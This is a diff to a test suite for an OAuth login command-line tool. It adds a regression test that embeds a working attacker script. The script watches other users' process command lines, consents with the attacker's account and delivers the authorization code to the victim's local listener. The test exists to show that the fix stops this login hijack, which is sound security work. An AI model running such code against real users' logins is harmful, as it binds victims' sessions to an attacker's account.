@@ -7,6 +7,7 @@ import os
 import stat
 import subprocess
 import sys
+import threading
 from pathlib import Path
 
 import pytest
@@ -41,7 +42,7 @@ def _ua(*flags: str) -> str:
 def test_login_end_to_end(emulator: Emulator, client_secret_file: Path, tmp_path: Path) -> None:
     home = tmp_path / "home"
     done = _run(
-        ["--client-secret", str(client_secret_file), "--quota-project", "qp-1", "--json"],
+        ["--client-secret", str(client_secret_file), "--quota-project", "qp-project-1", "--json"],
         home,
         browser=_ua(),
     )
@@ -50,7 +51,7 @@ def test_login_end_to_end(emulator: Emulator, client_secret_file: Path, tmp_path
     assert stat.S_IMODE(profile.stat().st_mode) == 0o600
     assert stat.S_IMODE(profile.parent.stat().st_mode) == 0o700
     data = json.loads(profile.read_text())
-    assert data["type"] == "authorized_user" and data["quota_project_id"] == "qp-1"
+    assert data["type"] == "authorized_user" and data["quota_project_id"] == "qp-project-1"
     assert data["account"] == emulator.user_email
     assert f"Logged in as {emulator.user_email}" in done.stderr
     assert "generative-language.retriever" in done.stderr and "(mode 0600)" in done.stderr
@@ -235,3 +236,136 @@ def test_login_with_a_stale_client_secret_says_what_to_do(
     assert done.returncode == 3 and "invalid_client" in done.stderr, done.stderr
     assert "download it again" in done.stderr and "stale-secret" not in done.stderr
     assert not (tmp_path / "home" / "profiles" / "default.json").exists()
+
+
+# ---------------------------------------------------------------- login CSRF from another uid
+
+_ATTACKER = r"""
+import http.client, json, os, re, sys, time, urllib.parse
+
+marker, account, deadline = sys.argv[1], sys.argv[2], time.monotonic() + float(sys.argv[3])
+
+
+def argvs():
+    for pid in os.listdir("/proc"):
+        if pid.isdigit():
+            try:
+                with open(f"/proc/{pid}/cmdline", "rb") as f:
+                    yield f.read().split(b"\0")
+            except OSError:
+                pass
+
+
+def watch():
+    while time.monotonic() < deadline:
+        for argv in argvs():
+            if any(marker.encode() in word for word in argv):
+                for word in argv:
+                    if word.startswith(b"http://"):
+                        return word.decode()
+        time.sleep(0.01)
+    return None
+
+
+def request(url, method="GET", body=None):
+    p = urllib.parse.urlsplit(url)
+    conn = http.client.HTTPConnection(p.hostname, p.port, timeout=10)
+    headers = {"Host": p.netloc}
+    if body is not None:
+        headers["Content-Type"] = "application/x-www-form-urlencoded"
+    conn.request(method, p.path + ("?" + p.query if p.query else ""), body=body, headers=headers)
+    answer = conn.getresponse()
+    page = answer.read().decode("utf-8", "replace")
+    conn.close()
+    return answer.status, answer.getheader("Location"), page
+
+
+report = {"seen": watch()}
+url = report["seen"]
+try:
+    if url and "redirect_uri=" not in url:  # not the authorization URL: perhaps a launcher
+        report["launcher"], url, _ = request(url)
+    if url and "redirect_uri=" in url:  # consent with my own account, for the victim's login
+        parts = urllib.parse.urlsplit(url)
+        query = [(k, v) for k, v in urllib.parse.parse_qsl(parts.query) if k != "login_hint"]
+        query.append(("login_hint", account))
+        _, _, page = request(parts._replace(query=urllib.parse.urlencode(query)).geturl())
+        consent = re.search(r'name="consent" value="([^"]+)"', page).group(1)
+        scopes = re.findall(r'name="scope" value="([^"]+)"', page)
+        form = [("consent", consent), *(("scope", s) for s in scopes), ("action", "allow")]
+        approval = f"{parts.scheme}://{parts.netloc}/o/oauth2/approval"
+        _, callback, _ = request(approval, "POST", urllib.parse.urlencode(form))
+        report["delivered"], _, _ = request(callback)  # the code, to the victim's listener
+except Exception as exc:
+    report["error"] = type(exc).__name__
+print(json.dumps(report))
+"""
+
+_VICTIMS_BROWSER = r"""
+import os, signal, subprocess, sys
+
+if sys.argv[1] != "--open":  # as webbrowser expects: return at once, the browser lives on
+    subprocess.Popen([sys.executable, __file__, "--open", sys.argv[1]], start_new_session=True,
+                     stdin=subprocess.DEVNULL)
+    sys.exit(0)
+signal.alarm(120)
+with open(os.path.join(os.path.dirname(__file__), "go")) as go:  # the user is slow to click
+    go.read()
+from gemini_oauth._useragent import approve
+
+approve(sys.argv[2])
+"""
+
+
+@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc/*/cmdline")
+def test_another_user_reading_the_browsers_argv_cannot_finish_the_login(
+    emulator: Emulator, client_secret_file: Path, tmp_path: Path, other_user: tuple[int, str]
+) -> None:
+    """Finding 1: another uid watches /proc/*/cmdline for the browser's URL, consents with its own
+    account and delivers the code to the victim's listener. Today the victim ends up logged in as
+    the attacker; it must end up logged in as itself."""
+    uid, python = other_user
+    attacker = "attacker@example.com"
+    emulator.control.add_user(attacker)
+    browser = tmp_path / "browser.py"
+    browser.write_text(_VICTIMS_BROWSER)
+    go = tmp_path / "go"
+    os.mkfifo(go)
+    watcher = subprocess.Popen(
+        [python, "-c", _ATTACKER, str(browser), attacker, "60"],
+        user=uid,
+        cwd="/",
+        env={"PATH": "/usr/bin:/bin"},
+        stdout=subprocess.PIPE,
+        text=True,
+    )
+    home = tmp_path / "home"
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("GEMINI_OAUTH_", "SSH_"))}
+    env.update(GEMINI_OAUTH_HOME=str(home), BROWSER=f"{sys.executable} {browser} %s")
+    victim = subprocess.Popen(
+        [SCRIPT, "login", "--client-secret", str(client_secret_file)],
+        env=env,
+        stdin=subprocess.DEVNULL,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    try:
+        report = json.loads(watcher.communicate(timeout=90)[0])
+        # Now the victim's own browser goes on: opening the fifo's other end releases it.
+        threading.Thread(target=lambda: os.close(os.open(go, os.O_WRONLY)), daemon=True).start()
+        _, err = victim.communicate(timeout=60)
+    finally:
+        for proc in (watcher, victim):
+            if proc.poll() is None:
+                proc.kill()
+    assert victim.returncode == 0, err
+    assert f"Logged in as {emulator.user_email}" in err and attacker not in err, err
+    assert json.loads((home / "profiles" / "default.json").read_text())["account"] == (
+        emulator.user_email
+    )
+    assert report["seen"], "the attacker never saw a URL in the browser's argv"
+    assert "redirect_uri=" not in report["seen"]  # the authorization URL is in no argv
+    assert "delivered" not in report, report
+    assert f"another user's program (uid {uid}) was refused" in err
+    assert emulator.control.counters()["token.authorization_code"] == 1
